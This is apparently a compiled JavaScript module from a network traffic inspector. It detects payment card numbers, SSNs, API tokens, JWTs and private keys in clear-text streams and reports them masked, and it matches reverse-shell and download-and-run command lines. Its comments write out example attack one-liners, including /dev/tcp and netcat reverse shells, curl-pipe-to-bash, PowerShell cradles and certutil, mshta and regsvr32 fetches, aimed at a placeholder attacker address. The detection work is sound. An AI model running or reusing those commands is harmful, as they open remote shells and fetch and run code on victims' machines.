/**
 * Pure matchers of sensitive values and command lines in clear text, shared by the capture
 * path's payload inspector (ingest/pcap/app/payload.ts: the first bytes of each clear-text
 * stream) and the `content` detector (detect/content.ts: HTTP URIs and headers, DNS names, TLS
 * SNI, FTP arguments, SMTP subjects): ONE implementation of each pattern. It lives here because
 * ingest must not import from detect (folders follow the pipeline, DESIGN.md).
 *
 * Nothing here keeps a raw value: every sensitive match comes back masked (`mask`: the last
 * four characters at most, the rest `*`), with its kind, length and position; a command line's
 * snippet has every sensitive value inside it masked the same way. Matching is bounded by the
 * caller (content.ts truncates fields, the inspector reads a bounded prefix) and every regular
 * expression is linear-time in practice (no nested unbounded quantifiers).
 */
// ─── masking, decoding, entropy ─────────────────────────────────────────────────────────────
/** At most this many `*` in a masked value (the length is reported separately). */
export const MASK_STARS_MAX = 16;
/**
 * `value` with all but its last four characters replaced by `*` (at most `MASK_STARS_MAX`
 * stars). A value of eight characters or fewer keeps none: its last four would be half of it.
 */
export function mask(value) {
    const keep = value.length > 8 ? 4 : 0;
    const stars = Math.min(MASK_STARS_MAX, value.length - keep);
    return '*'.repeat(stars) + value.slice(value.length - keep);
}
const PERCENT_RUN = /(?:%[0-9A-Fa-f]{2})+/g;
const PERCENT_ONE = /%[0-9A-Fa-f]{2}/;
function decodeRun(run) {
    try {
        return decodeURIComponent(run);
    }
    catch {
        // Not UTF-8: one character per byte, so nothing is lost to matching.
        let out = '';
        for (let i = 0; i < run.length; i += 3)
            out += String.fromCharCode(Number.parseInt(run.slice(i + 1, i + 3), 16));
        return out;
    }
}
/**
 * Percent-escapes undone (twice when the first pass leaves escapes: double encoding); never
 * throws. `+` is left alone (base64 uses it); command matching also tries it as a space.
 */
export function percentDecode(text) {
    if (!text.includes('%'))
        return text;
    let out = text.replace(PERCENT_RUN, decodeRun);
    if (PERCENT_ONE.test(out))
        out = out.replace(PERCENT_RUN, decodeRun);
    return out;
}
/** Shannon entropy of the characters of `s`, bits per character (0 for ''). */
export function shannonEntropy(s) {
    if (s.length === 0)
        return 0;
    const counts = new Map();
    for (let i = 0; i < s.length; i++) {
        const c = s.charCodeAt(i);
        counts.set(c, (counts.get(c) ?? 0) + 1);
    }
    let h = 0;
    for (const n of counts.values()) {
        const p = n / s.length;
        h -= p * Math.log2(p);
    }
    return h;
}
// ─── card numbers, SSNs ─────────────────────────────────────────────────────────────────────
/** Luhn (mod 10) check of a string of digits; false for anything else or ''. */
export function luhnValid(digits) {
    if (digits.length === 0 || !/^\d+$/.test(digits))
        return false;
    let sum = 0;
    let double = false;
    for (let i = digits.length - 1; i >= 0; i--) {
        let d = digits.charCodeAt(i) - 48;
        if (double) {
            d *= 2;
            if (d > 9)
                d -= 9;
        }
        sum += d;
        double = !double;
    }
    return sum % 10 === 0;
}
/**
 * Whether the issuer prefix (IIN) and length fit a payment-card brand: Visa, Mastercard, Amex,
 * Discover, JCB, Diners, UnionPay, Maestro, Mir.
 */
export function plausibleIin(digits) {
    const n = digits.length;
    if (n < 13 || n > 19 || !/^\d+$/.test(digits))
        return false;
    const p = (k) => Number(digits.slice(0, k));
    const p2 = p(2);
    const p3 = p(3);
    const p4 = p(4);
    const p6 = p(6);
    if (digits[0] === '4')
        return n === 13 || n === 16 || n === 19; // Visa
    if (n === 16 && ((p2 >= 51 && p2 <= 55) || (p4 >= 2221 && p4 <= 2720)))
        return true; // Mastercard
    if (n === 15 && (p2 === 34 || p2 === 37))
        return true; // Amex
    if (n === 16 && p4 >= 2200 && p4 <= 2204)
        return true; // Mir
    if (n >= 16) {
        if (p4 === 6011 || (p3 >= 644 && p3 <= 649) || p2 === 65 || (p6 >= 622126 && p6 <= 622925))
            return true;
        if (p4 >= 3528 && p4 <= 3589)
            return true; // JCB
        if (p2 === 62)
            return true; // UnionPay
    }
    if (n >= 14 && ((p3 >= 300 && p3 <= 305) || p4 === 3095 || p2 === 36 || p2 === 38 || p2 === 39))
        return true; // Diners
    return p2 === 50 || (p2 >= 56 && p2 <= 58) || p2 === 63 || p2 === 67; // Maestro
}
/**
 * Card-number candidates: 13–19 digits in one run, or groups of 4-4-4-4(-3) / 4-6-4(5) with one
 * separator (space or dash) throughout; never inside a longer run of letters or digits.
 */
const CARD_RE = /(?<![0-9A-Za-z])(?:\d{13,19}|\d{4}([ -])\d{4}\1\d{4}\1\d{4}(?:\1\d{3})?|\d{4}([ -])\d{6}\2\d{4,5})(?![0-9A-Za-z]|[ -]\d)/g;
/** Digits of a card number if `candidate` is one (plausible IIN and Luhn), else undefined. */
export function cardDigits(candidate) {
    const digits = candidate.replace(/[ -]/g, '');
    return plausibleIin(digits) && luhnValid(digits) ? digits : undefined;
}
/** Well-known SSNs that were never anyone's (advertising, documentation). */
const SSN_PLACEHOLDERS = new Set(['078051120', '219099999', '123456789']);
/** Whether area-group-serial is a possible US SSN: area not 000, 666 or 9xx; group, serial not 0. */
export function validSsn(area, group, serial) {
    const a = Number(area);
    if (a === 0 || a === 666 || a >= 900)
        return false;
    if (Number(group) === 0 || Number(serial) === 0)
        return false;
    return !SSN_PLACEHOLDERS.has(area + group + serial);
}
const SSN_RE = /(?<![0-9A-Za-z-])(\d{3})-(\d{2})-(\d{4})(?![0-9A-Za-z]|-\d)/g;
export const SENSITIVE_KINDS = [
    'card',
    'ssn',
    'aws-access-key',
    'github-token',
    'slack-token',
    'google-api-key',
    'stripe-key',
    'jwt',
    'private-key',
    'base64-blob',
    'hex-blob',
];
/** Credentials (ATT&CK T1552) as opposed to data (T1048). */
export function isCredentialKind(kind) {
    return kind !== 'card' && kind !== 'ssn' && kind !== 'base64-blob' && kind !== 'hex-blob';
}
/** Each token pattern with the literal(s) one of which any match contains (a cheap gate). */
const TOKEN_PATTERNS = [
    ['aws-access-key', /(?<![A-Za-z0-9])(?:AKIA|ASIA)[A-Z0-9]{16}(?![A-Za-z0-9])/g, ['AKIA', 'ASIA']],
    [
        'github-token',
        /(?<![A-Za-z0-9_])(?:gh[pousr]_[A-Za-z0-9]{36}|github_pat_[A-Za-z0-9_]{22,255})(?![A-Za-z0-9_])/g,
        ['gh', 'github_pat_'],
    ],
    ['slack-token', /(?<![A-Za-z0-9])xox[abpr]-[A-Za-z0-9-]{10,200}/g, ['xox']],
    ['google-api-key', /(?<![A-Za-z0-9_-])AIza[0-9A-Za-z_-]{35}(?![A-Za-z0-9_-])/g, ['AIza']],
    ['stripe-key', /(?<![A-Za-z0-9])[sr]k_live_[0-9A-Za-z]{16,200}(?![A-Za-z0-9])/g, ['k_live_']],
    ['private-key', /-----BEGIN[ +](?:[A-Z0-9]{1,20}[ +]){0,3}PRIVATE[ +]KEY-----/gi, ['-----']],
];
const JWT_RE = /(?<![A-Za-z0-9_-])eyJ[A-Za-z0-9_-]{4,4096}\.[A-Za-z0-9_-]{4,8192}\.[A-Za-z0-9_-]{0,4096}(?![A-Za-z0-9_-])/g;
/** Whether the first part of a JWT decodes (base64url) to a JSON object with a string `alg`. */
export function jwtHeaderOk(token) {
    const head = token.slice(0, token.indexOf('.'));
    if (head.length === 0 || !/^[A-Za-z0-9_-]+$/.test(head))
        return false;
    try {
        const json = JSON.parse(Buffer.from(head, 'base64url').toString('utf8'));
        return (json !== null && typeof json === 'object' && typeof json.alg === 'string');
    }
    catch {
        return false;
    }
}
const HEX_ONLY = /^[0-9A-Fa-f]+$/;
/**
 * Classifies a run of base64/base64url characters: a hex blob (only hex digits, entropy ≥
 * minHexEntropy), a base64 blob (upper and lower case letters and digits, entropy ≥
 * minBase64Entropy) or nothing (long words, paths, numbers).
 */
export function blobKind(run, rules) {
    const body = run.replace(/=+$/, '');
    if (body.length < rules.minLength)
        return undefined;
    if (HEX_ONLY.test(body))
        return shannonEntropy(body) >= rules.minHexEntropy ? 'hex-blob' : undefined;
    if (!/[A-Z]/.test(body) || !/[a-z]/.test(body) || !/[0-9]/.test(body))
        return undefined;
    return shannonEntropy(body) >= rules.minBase64Entropy ? 'base64-blob' : undefined;
}
function overlaps(spans, start, end) {
    for (let k = 0; k < spans.length; k += 2)
        if (start < spans[k + 1] && spans[k] < end)
            return true;
    return false;
}
function containsAny(text, needles) {
    for (const n of needles)
        if (text.includes(n))
            return true;
    return false;
}
let blobRe;
/** The blob candidate expression for a minimum length (built once per length). */
function blobRegex(minLength) {
    if (blobRe === undefined || !blobRe.source.includes(`{${minLength},}`)) {
        blobRe = new RegExp(`[A-Za-z0-9+/_-]{${minLength},}={0,2}`, 'g');
    }
    return blobRe;
}
/**
 * A necessary condition of every card candidate (13+ digits, 4-4-4-4, 4-6-4): four digits, at
 * most one separator, four digits. `\d{13}|…` as a gate backtracks on every shorter digit run
 * (≈ 70 µs on 4 KiB of text full of 11-digit numbers); this one stops at the first 8 digits.
 */
const CARD_HINT = /\d{4}[ -]?\d{4}/;
const SSN_HINT = /\d{3}-\d{2}-\d{4}/;
/**
 * Every sensitive value in `text` (already decoded), in text order per kind, masked. Specific
 * kinds take precedence: a blob overlapping a token, key or card is not reported again.
 */
export function findSensitive(text, rules) {
    const out = [];
    const spans = [];
    const push = (kind, value, start, end) => {
        out.push({ kind, masked: mask(value), length: value.length, start, end });
        spans.push(start, end);
    };
    if (CARD_HINT.test(text)) {
        for (const m of text.matchAll(CARD_RE)) {
            const digits = cardDigits(m[0]);
            if (digits !== undefined)
                push('card', digits, m.index, m.index + m[0].length);
        }
    }
    if (SSN_HINT.test(text)) {
        for (const m of text.matchAll(SSN_RE)) {
            if (validSsn(m[1], m[2], m[3]))
                push('ssn', m[1] + m[2] + m[3], m.index, m.index + m[0].length);
        }
    }
    for (const [kind, re, hints] of TOKEN_PATTERNS) {
        if (!containsAny(text, hints))
            continue;
        for (const m of text.matchAll(re))
            push(kind, m[0], m.index, m.index + m[0].length);
    }
    if (text.includes('eyJ')) {
        for (const m of text.matchAll(JWT_RE)) {
            if (jwtHeaderOk(m[0]))
                push('jwt', m[0], m.index, m.index + m[0].length);
        }
    }
    const blobs = rules.blobs;
    if (blobs !== undefined && text.length >= blobs.minLength) {
        for (const m of text.matchAll(blobRegex(blobs.minLength))) {
            const end = m.index + m[0].length;
            if (overlaps(spans, m.index, end))
                continue;
            const kind = blobKind(m[0], blobs);
            if (kind !== undefined)
                push(kind, m[0], m.index, end);
        }
    }
    return out;
}
// ─── payload families ───────────────────────────────────────────────────────────────────────
/** The `kind` a payload.log record gives a sensitive value (its `pattern` is the SensitiveKind). */
export const SENSITIVE_FAMILY = {
    card: 'card',
    ssn: 'ssn',
    'aws-access-key': 'api-key:aws',
    'github-token': 'api-key:github',
    'slack-token': 'api-key:slack',
    'google-api-key': 'api-key:google',
    'stripe-key': 'api-key:stripe',
    jwt: 'jwt',
    'private-key': 'private-key',
    'base64-blob': 'blob',
    'hex-blob': 'blob',
};
export const COMMAND_FAMILY = {
    'dev-tcp': 'reverse-shell',
    'netcat-exec': 'reverse-shell',
    'mkfifo-shell': 'reverse-shell',
    'socat-exec': 'reverse-shell',
    'script-reverse-shell': 'reverse-shell',
    'powershell-encoded': 'encoded-command',
    'powershell-cradle': 'download-exec',
    'download-pipe-shell': 'download-exec',
    'download-chmod': 'download-exec',
    'certutil-download': 'download-exec',
    'bitsadmin-transfer': 'download-exec',
    'mshta-remote': 'download-exec',
    'regsvr32-remote': 'download-exec',
};
export const COMMAND_PATTERNS = [
    // bash -i >& /dev/tcp/203.0.113.9/4444 0>&1, exec 5<>/dev/udp/…/53
    ['dev-tcp', /\/dev\/(?:tcp|udp)\/[^\s/]{1,255}\/\d{1,5}/i],
    // nc -e /bin/sh 203.0.113.9 4444, ncat.exe 203.0.113.9 4444 -e cmd.exe
    [
        'netcat-exec',
        /\b(?:nc|ncat|netcat)(?:\.exe)?\s[^\n|;&]{0,100}?-[a-z]{0,3}[ec]\s*\S{0,40}?(?:sh|cmd|powershell)\b/i,
    ],
    // rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 203.0.113.9 4444 >/tmp/f
    ['mkfifo-shell', /\bmkfifo\s[^\n]{0,120}?\b(?:nc|ncat|netcat|openssl)\b/i],
    // socat tcp-connect:203.0.113.9:4444 exec:'bash -li',pty,stderr
    ['socat-exec', /\bsocat\s[^\n]{0,120}?\b(?:exec|system):/i],
    [
        'script-reverse-shell',
        /\b(?:python[23]?(?:\.\d+)?\s+-c\s*['"]?[^\n]{0,60}?\bimport\s+(?:socket|pty)|perl\s+-e\s*['"]?[^\n]{0,60}?\buse\s+socket|php\s+-r\s*['"]?[^\n]{0,60}?\bfsockopen|ruby\s+-rsocket)/i,
    ],
    // powershell -nop -w hidden -enc SQBFAFgA…
    [
        'powershell-encoded',
        /\b(?:powershell|pwsh)(?:\.exe)?\b[^\n]{0,100}?\s[-/]e(?:c|nc?|ncodedcommand)?\s+[A-Za-z0-9+/]{16,}={0,2}/i,
    ],
    // IEX (New-Object Net.WebClient).DownloadString('http://…'), iwr … | iex
    [
        'powershell-cradle',
        /\b(?:iex|invoke-expression)\b[^\n]{0,60}?new-object\s+(?:system\.)?net\.webclient|new-object\s+(?:system\.)?net\.webclient\)?\s*\.\s*download(?:string|file|data)\s*\(|\b(?:iwr|invoke-webrequest|irm|invoke-restmethod)\b[^\n]{0,200}?\|\s*(?:iex|invoke-expression)\b/i,
    ],
    // curl -s http://203.0.113.9/x.sh | bash
    [
        'download-pipe-shell',
        /\b(?:curl|wget)\s[^\n|]{1,200}\|\s*(?:sudo\s+)?(?:\/usr)?(?:\/bin\/)?(?:ba|da|z|k)?sh\b/i,
    ],
    // wget http://…/x -O /tmp/x && chmod +x /tmp/x && /tmp/x
    [
        'download-chmod',
        /\b(?:curl|wget)\s[^\n]{1,200}?(?:&&|;|\|\|)\s*chmod\s+(?:[ugoa]{0,3}\+x|[0-7]{3,4})\b/i,
    ],
    // certutil -urlcache -split -f http://…/x.exe x.exe
    ['certutil-download', /\bcertutil(?:\.exe)?\s[^\n]{0,40}?[-/]urlcache\b[^\n]{0,60}?[-/]f\b/i],
    // bitsadmin /transfer job /download /priority high http://…/x.exe C:\x.exe
    ['bitsadmin-transfer', /\bbitsadmin(?:\.exe)?\s[^\n]{0,40}?\/transfer\b[^\n]{0,200}?\bhttps?:\/\//i],
    // mshta http://…/x.hta, mshta vbscript:Execute(…)
    ['mshta-remote', /\bmshta(?:\.exe)?\s+["']?(?:https?:\/\/|vbscript:|javascript:)/i],
    // regsvr32 /s /n /u /i:http://…/x.sct scrobj.dll
    ['regsvr32-remote', /\bregsvr32(?:\.exe)?\s[^\n]{0,60}?[-/]i:\s*["']?https?:\/\//i],
];
export const COMMAND_SNIPPET_MAX = 120;
/**
 * Every pattern contains one of these words (case-insensitive); one pass over the text finds
 * which are there, and only the patterns whose words are found run (a skipped pattern could not
 * have matched). Running all thirteen, or a search per word, on every 4 KiB payload cost more
 * than the rest of the matching. `+` counts as a space after netcat's name: patterns are also
 * tried with `+` as a space.
 */
const COMMAND_WORDS = /\/dev\/|mkfifo|socat|python|perl|php|ruby|powershell|pwsh|webclient|iex|invoke-expression|curl|wget|certutil|bitsadmin|mshta|regsvr32|\b(?:nc|ncat|netcat)(?:\.exe)?[\s+]/gi;
/** The word a COMMAND_WORDS match stands for (netcat's names as `nc`). */
function commandWord(match) {
    const w = match.toLowerCase();
    return w.startsWith('nc') || w.startsWith('netcat') ? 'nc' : w;
}
/** Per pattern: whether it can match, given the words found and the lower-cased text. */
const COMMAND_GATES = {
    'dev-tcp': (w) => w.has('/dev/'),
    'netcat-exec': (w) => w.has('nc'),
    'mkfifo-shell': (w) => w.has('mkfifo'),
    'socat-exec': (w) => w.has('socat'),
    'script-reverse-shell': (w, lower) => (w.has('python') || w.has('perl') || w.has('php') || w.has('ruby')) &&
        (lower().includes('sock') || lower().includes('pty')),
    'powershell-encoded': (w) => w.has('powershell') || w.has('pwsh'),
    'powershell-cradle': (w) => w.has('webclient') || w.has('iex') || w.has('invoke-expression'),
    'download-pipe-shell': (w, lower) => (w.has('curl') || w.has('wget')) && lower().includes('|'),
    'download-chmod': (w, lower) => (w.has('curl') || w.has('wget')) && lower().includes('chmod'),
    'certutil-download': (w, lower) => w.has('certutil') && lower().includes('urlcache'),
    'bitsadmin-transfer': (w) => w.has('bitsadmin'),
    'mshta-remote': (w) => w.has('mshta'),
    'regsvr32-remote': (w) => w.has('regsvr32'),
};
/** Snippets are shorter than any blob: card numbers, SSNs, keys, tokens and JWTs are masked. */
const SNIPPET_RULES = { blobs: undefined };
/** `text` with every sensitive value `findSensitive` finds in it masked. */
export function maskSensitive(text) {
    const found = findSensitive(text, SNIPPET_RULES);
    if (found.length === 0)
        return text;
    found.sort((a, b) => a.start - b.start);
    let out = '';
    let at = 0;
    for (const m of found) {
        if (m.start < at)
            continue;
        out += text.slice(at, m.start) + m.masked;
        at = m.end;
    }
    return out + text.slice(at);
}
/**
 * Reverse-shell and download-and-run command lines in `text` (already percent-decoded; `+` is
 * also tried as a space, as in query strings). At most one match per kind.
 */
export function findCommands(text) {
    const words = new Set();
    for (const m of text.matchAll(COMMAND_WORDS))
        words.add(commandWord(m[0]));
    if (words.size === 0)
        return [];
    let lowered;
    const lower = () => {
        if (lowered === undefined)
            lowered = text.toLowerCase();
        return lowered;
    };
    const spaced = text.includes('+') ? text.replace(/\+/g, ' ') : undefined;
    const out = [];
    for (const [kind, re] of COMMAND_PATTERNS) {
        if (!COMMAND_GATES[kind](words, lower))
            continue;
        const m = re.exec(text) ?? (spaced === undefined ? null : re.exec(spaced));
        if (m !== null) {
            out.push({ kind, snippet: maskSensitive(m[0].slice(0, COMMAND_SNIPPET_MAX)), start: m.index });
        }
    }
    return out;
}
//# sourceMappingURL=sensitive-patterns.js.map